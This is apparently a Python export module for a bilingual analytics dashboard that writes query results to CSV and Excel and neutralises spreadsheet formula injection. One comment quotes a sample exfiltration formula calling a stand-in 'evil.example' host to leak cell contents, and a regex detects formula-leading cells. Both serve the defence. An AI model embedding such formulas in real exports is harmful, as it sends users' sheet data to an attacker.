"""Exports, one format for the dashboard and `python -m cubes query --csv`: CSV and Excel (.xlsx).

What a view shows (member labels and headers in one language, totals labelled 合计/Total) or the
records behind it. The first line names the filters the numbers are under, every header the unit
its numbers are in. CSV is UTF-8 with a BOM so that Excel opens Chinese correctly; the workbook has
typed numbers in the page's formats under a frozen header. Frames arrive as an iterable, so records
stream in batches without the whole export in memory; frames carry `attrs['formats']`
(header -> 'money' | 'int' | 'pct' | 'points' | 'float' | 'date') for the writers.
"""
from __future__ import annotations

import csv
import io
import re
import tempfile
from collections.abc import Iterable, Iterator

import pandas as pd
import pyarrow as pa
import pyarrow.csv as pacsv
import xlsxwriter
from xlsxwriter.utility import xl_col_to_name

from cubes.catalog import cube_by_name
from cubes.labels import with_unit
from cubes.spec import QuerySpec

BOM = "\ufeff"
FILTERS_TITLE = {"zh": "筛选条件", "en": "Filters"}
NO_FILTERS = {"zh": "无（全部数据）", "en": "none (all data)"}
# How a filter reads after its level's name, as the filter chips say it: '大区: 华北, 华东'.
OPS = {"zh": {"not_in": "不含 ", "range": "介于 ", "between": ""},
       "en": {"not_in": "not ", "range": "between ", "between": ""}}
SEPARATOR = {"zh": "；", "en": "; "}


def filters_line(spec: QuerySpec, lang: str, member_label) -> str:
    """'筛选条件: 大区: 华东; 月: 2025-01-01 — 2025-06-30'. `member_label(ref, key)` names a member."""
    cube = cube_by_name(spec.cube)
    parts = []
    for f in spec.filters:
        level = cube.level(f.dim)[1]
        name = level.label_zh if lang == "zh" else level.label_en
        if f.op in ("range", "between"):
            shown = " — ".join("…" if v is None else str(v) for v in f.values)
        else:
            shown = ", ".join(member_label(f.dim, v) for v in f.values)
        parts.append(f"{name}: {OPS[lang].get(f.op, '')}{shown}")
    if spec.drill:
        hierarchy = cube.hierarchy(spec.drill.hierarchy)
        for level, member in zip(hierarchy.levels, spec.drill.path):
            ref = f"{hierarchy.name}.{level.name}" if len(hierarchy.levels) > 1 else hierarchy.name
            parts.append(f"{level.label_zh if lang == 'zh' else level.label_en}: {member_label(ref, member)}")
    return f"{FILTERS_TITLE[lang]}: {SEPARATOR[lang].join(parts) if parts else NO_FILTERS[lang]}"


DECIMALS = {"money": 2, "int": 0, "pct": 6, "float": 4, "points": 2}  # what a reader needs, without float noise
# A comparison column's note and its unit: rates change by points, amounts and counts by a relative change.
CHANGE = {"prior": ("对比期", "prior"), "change": ("变动", "change")}


def _rounded(values: pd.Series, fmt: str) -> pd.Series:
    return values.astype("float64").round(DECIMALS.get(fmt, 4))


def _measure_column(column: str, labels: dict, lang: str) -> tuple[str, str]:
    """(header, format) of a measure's column of a query answer (its prior or change too)."""
    base, _, suffix = column.partition("__")
    fmt = labels[column]["format"]
    if suffix == "change":
        fmt = "points" if fmt == "pct" else "pct"
    name = labels[base][lang] if suffix and base in labels else labels[column][lang]
    return with_unit(name, fmt, lang, CHANGE.get(suffix)), fmt


def displayed(frame: pd.DataFrame, lang: str) -> pd.DataFrame:
    """A query's answer as shown: one label column per level, then the measures, headers in `lang`
    with their unit; a rate's change is in points (0.021 -> 2.1), any other change relative (as a rate)."""
    labels = frame.attrs.get("labels", {})
    levels = [c for c in frame.columns if f"{c}|{lang}" in frame.columns]
    measures = [c for c in frame.columns if c in labels and "format" in labels[c]]
    out = pd.DataFrame({labels[ref][lang]: frame[f"{ref}|{lang}"] for ref in levels})
    formats = {}
    for m in measures:
        header, fmt = _measure_column(m, labels, lang)
        values = frame[m].astype("float64") * (100 if fmt == "points" else 1)
        out[header], formats[header] = _rounded(values, fmt), fmt
    out.attrs["formats"] = formats
    return out


def page_table(columns: Iterable[tuple[str, str | None, Iterable]], lang: str) -> pd.DataFrame:
    """A page's own export (beyond one query, e.g. the whale curve): (label, format, values) per
    column, text when the format is None; headers with their unit, numbers as the writers write them."""
    out, formats = {}, {}
    for label, fmt, values in columns:
        if fmt is None:
            out[label] = list(values)
            continue
        header = with_unit(label, fmt, lang)
        out[header], formats[header] = _rounded(pd.Series(list(values), dtype="float64"), fmt), fmt
    frame = pd.DataFrame(out)
    frame.attrs["formats"] = formats
    return frame


def pivot_displayed(wide: pd.DataFrame, spec: QuerySpec, lang: str) -> pd.DataFrame:
    """A pivot as shown: row labels, then one column per (column members, measure): '寿险 / 保费收入（元）'."""
    cube = cube_by_name(spec.cube)
    out = pd.DataFrame({})
    for ref in spec.rows:
        level = cube.level(ref)[1]
        out[level.label_zh if lang == "zh" else level.label_en] = wide[f"{ref}|{lang}"]
    formats = {}
    for column in wide.attrs.get("columns", []):
        measure = cube.measure(column["measure"])
        label = with_unit(measure.label_zh if lang == "zh" else measure.label_en, measure.fmt, lang)
        header = " / ".join([str(x) for x in column[f"label_{lang}"]] + [label])
        out[header], formats[header] = _rounded(wide[column["field"]], measure.fmt), measure.fmt
    out.attrs["formats"] = formats
    return out


# --- CSV ------------------------------------------------------------------------------------------------
# --- text a spreadsheet would run as a formula (CSV injection) ----------------------------------------------
# A cell starting with one of these is read as a formula by Excel, LibreOffice and Google Sheets, quoted
# in the CSV or not (=HYPERLINK("http://evil.example/?leak="&A1) sends the sheet away). As OWASP advises,
# such text gets a single quote in front, which makes it text; a number written as text (-12.5) stays.
_FORMULA_START = r"[=+\-@\t\r]"
_PLAIN_NUMBER = r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?%?"
_FORMULA_RE, _NUMBER_RE = re.compile(_FORMULA_START), re.compile(_PLAIN_NUMBER)


def neutralised(text):
    """One text cell (or header) as it is safe to write: "'=SUM(1+1)" for '=SUM(1+1)'."""
    if isinstance(text, str) and _FORMULA_RE.match(text) and not _NUMBER_RE.fullmatch(text):
        return "'" + text
    return text


def _neutralised_text(values: pd.Series) -> pd.Series:
    """A column's text cells neutralised (numbers, dates and flags are not text, and stay typed)."""
    if isinstance(values.dtype, pd.StringDtype):  # pandas' own strings: vectorised, for the records' batches
        risky = (values.str.match(_FORMULA_START) & ~values.str.fullmatch(_PLAIN_NUMBER)).fillna(False)
        return values.mask(risky.astype(bool), "'" + values)
    return values.map(neutralised)  # object (or categorical) columns: only their str cells change


def csv_chunks(frames: Iterable[pd.DataFrame], first_line: str) -> Iterator[bytes]:
    """The CSV as UTF-8 byte chunks: BOM and the filters line, then each frame (header once).
    Arrow's writer, not pandas': a million records are written in 0.3 s instead of 3 s. Quoting a
    cell does not keep a spreadsheet from running it as a formula: text cells and headers are
    neutralised first (`neutralised`)."""
    yield (BOM + _csv_row([neutralised(first_line)])).encode("utf-8")
    header = True
    for frame in frames:
        buffer = io.BytesIO()
        pacsv.write_csv(pa.Table.from_pandas(_as_written(frame), preserve_index=False), buffer,
                        pacsv.WriteOptions(include_header=header, eol="\r\n"))
        header = False
        yield buffer.getvalue()


def _as_written(frame: pd.DataFrame) -> pd.DataFrame:
    """Dates and flags as a person reads them (2026-01-31, True), as pandas wrote them; Arrow would
    write times of day and true/false. A rate is written in percent, as its header says (85.3421);
    other numbers of a known format to the decimals a reader needs (money to the fen).
    Text that a spreadsheet would run as a formula is neutralised, headers too."""
    formats = frame.attrs.get("formats", {})
    out = {}
    for name, values in frame.items():
        if formats.get(name) == "pct":
            out[name] = (values.astype("float64") * 100).round(DECIMALS["pct"] - 2)
        elif pd.api.types.is_datetime64_any_dtype(values):
            dated = values.dropna()
            only_dates = bool((dated == dated.dt.normalize()).all())
            out[name] = values.dt.strftime("%Y-%m-%d" if only_dates else "%Y-%m-%d %H:%M:%S")
        elif pd.api.types.is_bool_dtype(values):
            out[name] = values.map({True: "True", False: "False"})
        elif pd.api.types.is_numeric_dtype(values) and formats.get(name) in DECIMALS:
            out[name] = _rounded(values, formats[name])  # records' sums carry float noise (370196.66000000003)
        elif pd.api.types.is_numeric_dtype(values):
            out[name] = values
        else:
            out[name] = _neutralised_text(values)
    written = pd.DataFrame(out, index=frame.index)
    written.columns = [neutralised(str(name)) for name in written.columns]
    return written


def _csv_row(values: list[str]) -> str:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerow(values)
    return buffer.getvalue()


# --- Excel ----------------------------------------------------------------------------------------------
EXCEL_ROWS = 1_048_576  # a worksheet's rows: the filters line and the header take two
EXCEL_FORMATS = {"money": "#,##0.00", "int": "#,##0", "pct": "0.00%", "points": "0.00", "float": "#,##0.00",
                 "date": "yyyy-mm-dd"}


class TooManyRows(ValueError):
    """More records than one worksheet holds."""


def xlsx_file(frames: Iterable[pd.DataFrame], first_line: str, sheet: str):
    """The workbook, written to a temporary file with XlsxWriter's constant_memory (rows go to disk as
    they are written), returned open at its start; the file has no name left on disk.
    Raises TooManyRows past a worksheet's rows.

    XlsxWriter writes a cell in about 30 µs of Python: 600,000 records of 11 columns took 4 minutes.
    So the filters line, the header and the sheet's settings go through its API, and the data rows
    are the same <row> XML it writes in constant_memory mode, built a column at a time (`_rows_xml`)
    and appended to its row file; the bookkeeping it would do (last row written, the sheet's
    dimensions) is done here. XlsxWriter is pinned (requirements.txt) and tests/test_export_xlsx.py
    checks these rows read back the same as rows written cell by cell through its API."""
    out = tempfile.TemporaryFile(suffix=".xlsx")
    book = xlsxwriter.Workbook(out, {"constant_memory": True, "in_memory": False})
    styles = {fmt: book.add_format({"num_format": code}) for fmt, code in EXCEL_FORMATS.items()}
    bold = book.add_format({"bold": True, "bottom": 1, "text_wrap": True, "valign": "top"})
    ws = book.add_worksheet(sheet[:31])
    ws.write_string(0, 0, neutralised(first_line))
    row, columns = 2, None
    for frame in frames:
        if columns is None:
            columns = list(frame.columns)
            for col, name in enumerate(columns):
                ws.set_column(col, col, min(max(10, _width(name)), 40))
                ws.write_string(1, col, neutralised(str(name)), bold)
            ws.freeze_panes(2, 0)
            ws._write_single_row(row)  # the header row goes to the row file; data rows follow it
        if not len(frame):
            continue
        if row + len(frame) > EXCEL_ROWS:
            out.close()
            raise TooManyRows(f"more than {EXCEL_ROWS - 2:,} rows")
        formats = frame.attrs.get("formats", {})
        dated = {name for name in columns if pd.api.types.is_datetime64_any_dtype(frame[name])}
        ws.fh.write(_rows_xml(frame[columns], row, {
            name: styles.get("date" if name in dated else formats.get(name)) for name in columns}))
        row += len(frame)
        ws._check_dimensions(row - 1, len(columns) - 1)
        ws.previous_row = row
    if columns:
        ws.autofilter(1, 0, max(row - 1, 1), len(columns) - 1)
    book.close()
    out.seek(0)
    return out


EXCEL_EPOCH = pd.Timestamp("1899-12-30")  # Excel's day 0 (1900 date system, its leap-year bug included)
_CONTROL = r"[\x00-\x08\x0b\x0c\x0e-\x1f]"  # not allowed in XML: dropped


def _rows_xml(frame: pd.DataFrame, first_row: int, styles: dict) -> str:
    """The <row> elements XlsxWriter writes for `frame` from 0-based row `first_row`: numbers as
    <v> with the column's style (`styles`: column -> Format or None), dates (text or datetimes in a
    column styled as dates) as Excel day numbers, text as inline strings (neutralised, as in the CSV:
    Excel keeps a typed string as text, but editing the cell or saving the sheet as CSV would run it),
    blanks left out."""
    numbers = pd.Series(range(first_row + 1, first_row + 1 + len(frame)), index=frame.index).astype(str)
    xml = '<row r="' + numbers + '">'
    for col, (name, values) in enumerate(frame.items()):
        at = '<c r="' + xl_col_to_name(col) + numbers + '"'
        style = styles.get(name)
        if style is not None:
            if pd.api.types.is_numeric_dtype(values):
                number = values.astype("float64")
            else:  # a date column: days since Excel's epoch
                number = (pd.to_datetime(values, errors="coerce") - EXCEL_EPOCH) / pd.Timedelta(days=1)
            shown = number.notna() & number.abs().ne(float("inf"))
            cell = at + f' s="{style._get_xf_index()}"><v>' + _number_text(number) + "</v></c>"
        elif pd.api.types.is_numeric_dtype(values) and not pd.api.types.is_bool_dtype(values):
            number = values.astype("float64")
            shown = number.notna() & number.abs().ne(float("inf"))
            cell = at + "><v>" + _number_text(number) + "</v></c>"
        else:
            text = _neutralised_text(values.astype("string").str.replace(_CONTROL, "", regex=True))
            shown = text.notna()
            text = (text.str.replace("&", "&amp;", regex=False)
                    .str.replace("<", "&lt;", regex=False).str.replace(">", "&gt;", regex=False))
            cell = at + ' t="inlineStr"><is><t xml:space="preserve">' + text + "</t></is></c>"
        xml = xml + cell.where(shown, "").astype(object)
    return "".join((xml + "</row>").tolist())


def _number_text(numbers: pd.Series) -> pd.Series:
    """As XlsxWriter writes a number: 16 significant digits (Excel keeps 15). Text even when every
    value is missing (a batch of records none of which carries this measure)."""
    return numbers.map(lambda v: f"{v:.16G}", na_action="ignore").astype("string")


def _width(text) -> int:
    """Characters a header needs: a Chinese character is about two Latin ones wide."""
    return sum(2 if ord(ch) > 0x2E80 else 1 for ch in str(text)) + 2
